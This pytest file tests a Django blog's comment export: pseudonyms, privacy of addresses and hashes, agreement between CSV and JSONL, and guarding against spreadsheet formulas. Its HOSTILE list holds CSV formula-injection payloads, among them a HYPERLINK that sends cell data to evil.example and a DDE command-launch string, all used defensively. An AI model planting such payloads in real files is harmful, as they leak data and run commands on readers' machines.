"""The export for analysis: every comment once, in two formats that say the same, without names."""

import csv
import io
import json
import re
from datetime import timedelta
from typing import Any

import pytest
from django.db import connection
from django.test.utils import CaptureQueriesContext
from django.utils import timezone

from blog.comments import actions, authorship, reports
from blog.comments.exporting import rows
from blog.comments.exporting.codebook import codebook
from blog.comments.exporting.files import FORMATS, pieces
from blog.comments.exporting.rows import COLUMNS, Export
from blog.comments.models import (
    Comment,
    CommentRevision,
    Question,
    Review,
    Status,
    keyed_hash,
)
from blog.comments.spreadsheets import guarded, unguarded
from blog.models import BlogPostPage
from tests.factories.comments import (
    NOBODY,
    comment,
    held_comment,
    many_comments,
    published_comment,
    rule,
    thread,
)
from tests.factories.pages import draft_post, live_post, private_post
from tests.factories.people import moderator, reader

pytestmark = pytest.mark.django_db
NORA = "nora@example.org"
Row = dict[str, Any]
HOSTILE = [
    '=HYPERLINK("http://evil.example/?"&A1;"Click")',
    "+1+1",
    "-1",
    "@SUM(A1)",
    "\t=1+1",
    "\r=1+1",
    "＝1+1",
    "'quoted'",
    "''=1",
    "a;=cmd|' /C calc'!A0;b",
    "a line\n=1+1\n- a list\n'",
    'say "yes", she said;\r\n"\'=1"',
    'a line\n"=HYPERLINK(""http://evil.example"")";""@SUM(A1)\t"\'"',
    '"=1',
    "'\"=1",
    "\u2028=1\u2029\u0085 \ufeff\u202e",
    "Ünïcödé 🦩",
]
if connection.vendor == "sqlite":  # PostgreSQL keeps none
    HOSTILE.append("a\0b\0")


def file(export: Export, kind: str) -> bytes:
    """The whole file."""
    return b"".join(pieces(export, kind))


def from_json(export: Export) -> list[Row]:
    """The rows, as a program reads them."""
    lines = file(export, "jsonl").decode().split("\n")
    assert lines.pop() == ""
    return [json.loads(line) for line in lines]


def from_csv(export: Export) -> list[Row]:
    """The rows, as a spreadsheet reads them."""
    text = io.StringIO(file(export, "csv").decode("utf-8-sig"), newline="")
    return list(csv.DictReader(text))


def row(entry: Comment, *, with_names: bool = False) -> Row:
    """The one row of a comment."""
    (found,) = [one for one in from_json(Export(with_names=with_names)) if one["id"] == entry.pk]
    return found


def by(email: str, post: BlogPostPage, status: Status = Status.PUBLISHED, **fields: Any) -> Comment:
    """A guest's comment, with all that is stored of who wrote it."""
    defaults = {
        "user_name": "Nora Quennell",
        "user_email": email,
        "email_hash": keyed_hash(email),
        "confirmed_at": timezone.now(),
        "ip_address": "198.51.100.7",
        "ip_hash": keyed_hash("198.51.100.7"),
    }
    return comment(post, status, **(defaults | fields))


def test_a_row_says_where_a_comment_stands_and_what_was_decided(post: BlogPostPage) -> None:
    first, reply, deep = thread(post, 0, 1, 2)
    Comment.objects.filter(pk=deep.pk).update(like_count=3)
    reports.report(comment=deep, writer=NOBODY, ip_address="192.0.2.1")
    decision = actions.decide("remove", deep, by=moderator(), rule=rule(2))

    found = row(deep)

    assert found["post"] == post.url
    assert found["thread_path"] == "".join(f"/{one.pk:010d}" for one in (first, reply, deep))
    assert (found["depth"], found["parent_id"]) == (2, reply.pk)
    assert (found["state"], found["decision"], found["decided_by"]) == (
        "removed",
        "remove",
        "moderator",
    )
    assert found["decided_at"] == decision.made_at.strftime("%Y-%m-%dT%H:%M:%SZ")
    assert (found["rule_number"], found["rules_version"]) == (2, 1)
    assert found["rule_title"] == rule(2).title
    assert (found["reports"], found["open_reports"], found["likes"]) == (1, 0, 3)
    assert (found["text"], found["words"]) == (None, len(deep.comment.split()))
    assert row(first)["parent_id"] is None


def test_a_row_says_who_answers_what(post: BlogPostPage) -> None:
    question = published_comment(post, comment="When?")
    answer = published_comment(post, question, official_role="Town clerk")
    Comment.objects.filter(pk=question.pk).update(
        question=Question.ANSWERED, answer=answer, question_settled_at=timezone.now()
    )

    assert (row(question)["question"], row(question)["answer_id"]) == ("answered", answer.pk)
    assert row(question)["question_settled_at"].endswith("Z")
    assert (row(answer)["official_role"], row(answer)["question"]) == ("Town clerk", "none")


def test_the_rule_of_an_upheld_decision_is_the_first_ones(post: BlogPostPage) -> None:
    entry = held_comment(post)
    actions.refuse(comment=entry, by=moderator(), rule=rule(3))
    authorship.ask_for_review(comment=entry, why="")
    actions.uphold(comment=entry, by=moderator())

    found = row(entry)

    assert Review.objects.get().upheld
    assert (found["state"], found["decision"], found["rule_number"]) == ("refused", "uphold", 3)


def test_a_decision_that_was_taken_back_is_none(post: BlogPostPage) -> None:
    entry, who = held_comment(post), moderator()
    decision = actions.decide("refuse", entry, by=who, rule=rule())
    actions.undo(decision=decision, by=who)

    found = row(entry)

    assert (found["state"], found["decision"], found["rule_number"]) == ("held", None, None)


@pytest.mark.parametrize("status", Status)
def test_without_names_only_what_readers_see_has_a_text(post: BlogPostPage, status: Status) -> None:
    entry = by(NORA, post, status, comment="A heron is not enough.")

    found = row(entry)
    assert found["text"] == ("A heron is not enough." if status == Status.PUBLISHED else None)
    assert "name" not in found


@pytest.mark.parametrize("status", Status)
def test_with_names_there_is_every_text_that_was_not_taken_back(
    post: BlogPostPage, status: Status
) -> None:
    entry = by(NORA, post, status, comment="A heron is not enough.")

    found = row(entry, with_names=True)

    is_here = status != Status.WITHDRAWN
    assert found["text"] == ("A heron is not enough." if is_here else None)
    assert found["name"] == ("Nora Quennell" if is_here else None)
    assert NORA not in str(found)


def test_the_name_of_an_account_is_the_one_that_readers_see(post: BlogPostPage) -> None:
    full, short = moderator(), reader()

    names = [
        row(published_comment(post, user=who), with_names=True)["name"] for who in (full, short)
    ]

    assert names == ["Mo Derator", short.username]


@pytest.mark.parametrize("with_names", [False, True])
@pytest.mark.parametrize("kind", FORMATS)
def test_no_address_no_hash_and_nothing_that_is_gone_is_in_it(
    post: BlogPostPage, kind: str, with_names: bool
) -> None:
    entry = by(NORA, post, comment="What it says now.")
    CommentRevision.objects.create(comment=entry, text="What it said first.")
    reports.report(comment=entry, writer=NOBODY, ip_address="192.0.2.77", why="I am Rita.")
    withdrawn = by(NORA, post, comment="What was taken back.")
    authorship.withdraw(comment=withdrawn)
    erased = by(NORA, post, comment="What was erased.")
    authorship.erase(comment=erased)

    text = file(Export(with_names=with_names), kind).decode()

    hidden = [NORA, "198.51.100.7", "192.0.2.77", entry.email_hash, entry.ip_hash, "Rita"]
    hidden += ["said first", "taken back", "was erased", *entry.reports.values_list("reporter")[0]]
    assert [secret for secret in hidden if secret in text] == []


def test_comments_that_not_everybody_may_read_come_only_with_names(db: None) -> None:
    public, *hidden = [published_comment(page()) for page in (live_post, private_post, draft_post)]

    assert [one["id"] for one in from_json(Export())] == [public.pk]
    everything = from_json(Export(with_names=True))
    assert [one["id"] for one in everything] == [public.pk, *(one.pk for one in hidden)]


def test_one_post_has_its_own_comments_and_no_others(post: BlogPostPage) -> None:
    mine = published_comment(post)
    published_comment(live_post())

    assert [one["id"] for one in from_json(Export(page=post))] == [mine.pk]


def test_a_writer_has_one_pseudonym_in_one_export_and_another_in_the_next(
    post: BlogPostPage,
) -> None:
    user = reader()
    entries = [
        published_comment(post, user=user),
        published_comment(post, user=user),
        by(NORA, post),
        by(NORA, post, user_name="N."),
        by(NORA, post, confirmed_at=None),  # anybody may have typed her address
        by("", post, email_hash=""),
        by("", post, email_hash=""),
        by("", post, email_hash="", user_name="Somebody else"),
        published_comment(post, user_name="Imported"),
        published_comment(post, user_name="Imported"),
    ]

    one, other = ([found["writer"] for found in from_json(Export())] for _ in range(2))

    same = [[one.index(name), position] for position, name in enumerate(one)]
    assert same == [
        [0, 0], [0, 1], [2, 2], [2, 3], [4, 4], [5, 5], [5, 6], [7, 7], [8, 8], [9, 9],
    ]  # fmt: skip
    assert not set(one) & set(other)
    assert len(one) == len(entries)


@pytest.mark.parametrize("text", HOSTILE)
def test_what_is_guarded_from_spreadsheets_is_read_back_as_it_was(text: str) -> None:
    assert unguarded(guarded(text)) == text
    for cell in re.split("[;\t\r\n]", guarded(text)):
        assert not cell.lstrip('"').startswith(("=", "+", "-", "@", "＝", "＋", "－", "＠"))


def test_names_and_texts_are_read_back_byte_by_byte_in_both_formats(post: BlogPostPage) -> None:
    for text in HOSTILE:
        published_comment(post, comment=text, user_name=text[:50])

    as_json, as_csv = from_json(Export(with_names=True)), from_csv(Export(with_names=True))

    assert [one["text"] for one in as_json] == HOSTILE
    assert [unguarded(one["text"]) for one in as_csv] == HOSTILE
    assert [unguarded(one["name"]) for one in as_csv] == [text[:50] for text in HOSTILE]


def test_both_formats_say_the_same(post: BlogPostPage) -> None:
    first, *_rest = thread(post, 0, 1, 2)
    held_comment(post, signals=["quick", "no_stamp"])
    actions.remove(comment=first, by=moderator(), rule=rule())

    export = Export()
    as_json, as_csv = from_json(export), from_csv(export)

    assert len(as_json) == len(as_csv) == 4
    for one, other in zip(as_json, as_csv, strict=True):
        assert list(one) == list(other)
        as_text = {
            name: " ".join(value) if isinstance(value, list) else "" if value is None else value
            for name, value in one.items()
        }
        assert {name: str(value) for name, value in as_text.items()} == other
    assert as_csv[3]["signals"] == "quick no_stamp"


def test_a_spreadsheet_knows_the_encoding_and_a_program_each_line(post: BlogPostPage) -> None:
    published_comment(post, comment="\u2028Ünïcödé\x85")

    as_csv, as_json = file(Export(), "csv"), file(Export(), "jsonl")

    assert as_csv.startswith(b"\xef\xbb\xbfid,post,")
    assert as_csv.endswith(b"\r\n")
    assert not as_json.startswith(b"\xef\xbb\xbf")
    assert len(as_json.decode().splitlines()) == 1
    assert "Ünïcödé" in as_json.decode()


def test_a_site_without_comments_has_a_header_and_nothing_else(db: None) -> None:
    assert from_csv(Export()) == []
    assert file(Export(), "csv").decode("utf-8-sig").startswith("id,")
    assert file(Export(), "jsonl") == b""


def test_a_batch_costs_the_same_whatever_is_in_it(
    post: BlogPostPage, monkeypatch: pytest.MonkeyPatch
) -> None:
    def queries_of(total: int) -> int:
        with CaptureQueriesContext(connection) as captured:
            assert len(list(Export(with_names=True).batches())) == total
        return len(captured)

    monkeypatch.setattr(rows, "BATCH", 10)
    many_comments(post, [None] * 10)
    queries_of(1)  # what Wagtail keeps of the site
    one = queries_of(1)
    many_comments(post, [None] * 30)
    for entry in Comment.objects.order_by("pk")[10:]:
        reports.report(comment=entry, writer=NOBODY, ip_address="192.0.2.1")
        Comment.objects.filter(pk=entry.pk).update(user=reader())

    assert queries_of(4) <= 4 * one
    assert one <= 7


def test_the_codebook_explains_every_column_and_every_value(post: BlogPostPage) -> None:
    export = Export(page=post, with_names=True)

    text = codebook(export)

    for column in COLUMNS:
        assert re.search(rf"^  {column.name}: \w", text, re.MULTILINE), column.name
    for name in [*(status.name.lower() for status in Status), "uphold", "readers", "quick"]:
        assert f"  {name}: " in text
    assert post.full_url in text
    assert "UTC" in text
    assert "pseudonymous, not anonymous" in text
    assert "on record" in text
    assert "  name: " not in codebook(Export())


def test_the_codebooks_own_words_of_python_take_the_apostrophes_away(
    post: BlogPostPage, tmp_path: Any
) -> None:
    published_comment(post, comment=HOSTILE[0])
    published_comment(post, comment=HOSTILE[10])
    (tmp_path / "comments.csv").write_bytes(file(Export(), "csv"))
    text = codebook(Export())
    start = text.index("    import csv, re")
    code = "\n".join(line[4:] for line in text[start : text.index("\n\n", start)].splitlines())
    space: dict[str, Any] = {}

    exec(code.replace('"comments.csv"', repr(str(tmp_path / "comments.csv"))), space)

    assert [one["text"] for one in space["rows"]] == [HOSTILE[0], HOSTILE[10]]


def test_the_moments_are_in_utc_whatever_the_sites_own_zone(
    post: BlogPostPage, settings: Any
) -> None:
    settings.TIME_ZONE = "Pacific/Auckland"
    entry = published_comment(post)
    moment = timezone.now().replace(microsecond=0) - timedelta(hours=3)
    Comment.objects.filter(pk=entry.pk).update(published_at=moment)

    assert row(entry)["published_at"] == moment.isoformat().replace("+00:00", "Z")
